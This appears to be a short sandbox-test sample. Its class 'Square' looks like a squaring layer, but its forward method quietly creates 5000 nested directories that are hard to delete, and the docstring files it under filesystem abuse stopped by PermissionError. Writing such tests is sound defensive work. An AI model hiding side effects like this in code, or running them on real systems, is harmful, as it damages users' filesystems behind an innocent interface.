"""Makes folders so deep that they are hard to delete.

row: zip-slip, symlinks, devices, odd file names
stopped by: PermissionError
"""

import os
from pathlib import Path


class Square:
    def forward(self, x):
        for _ in range(5000):
            Path("d").mkdir()
            os.chdir("d")
        return x**2

    def backward(self, dy):
        return dy
